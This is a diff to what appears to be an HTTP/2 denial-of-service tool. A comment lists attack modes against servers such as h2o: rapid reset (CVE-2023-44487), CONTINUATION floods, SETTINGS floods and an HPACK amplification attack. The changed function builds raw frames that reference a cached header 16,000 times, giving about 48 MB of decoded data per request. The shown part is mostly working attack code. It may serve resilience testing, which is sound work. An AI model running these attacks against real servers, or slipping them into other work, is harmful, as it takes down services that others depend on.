@@ -21,7 +21,7 @@ Attacks (raw frames written with python3-hyperframe and hpack):
   reset        HEADERS (GET by id) + RST_STREAM in a loop, 100 pairs a write  (CVE-2023-44487)
   reset-write  HEADERS + DATA (a registration) + RST_STREAM in a loop
   hpack        one 3000-byte header put in the HPACK table, then requests that
-               name it 16,000 times (one 16 KB frame) and again in CONTINUATIONs
+               name it 16,000 times (one 16 KB frame: 48 MB of decoded values each)
   continuation HEADERS without END_HEADERS, then 16 KB CONTINUATIONs forever
   continuation-empty  the same with empty CONTINUATIONs (no bytes to buffer)
   settings     SETTINGS frames in a loop, ACKs never read
@@ -244,10 +244,9 @@ def attack_hpack(port, stop):
             if not ok:
                 sid = 1
                 continue
-        refs = b"\xbe" * 16000                 # indexed header field 62, 16,000 times
-        frames = [HeadersFrame(sid, base + refs, flags=["END_STREAM"]).serialize()]
-        for i in range(24):                    # ~400 KB of references in all: h2o's request limit
-            frames.append(ContinuationFrame(sid, refs, flags=["END_HEADERS"] if i == 23 else []).serialize())
+        # Indexed header field 62, 16,000 times in one frame: 48 MB of decoded header values.
+        # (Spread over CONTINUATIONs h2o stops it by itself: it closes the connection.)
+        frames = [HeadersFrame(sid, base + b"\xbe" * 16000, flags=["END_HEADERS", "END_STREAM"]).serialize()]
         frames.append(RstStreamFrame(sid, error_code=8).serialize())
         if not a.send(b"".join(frames), len(frames)):
             sid = 1
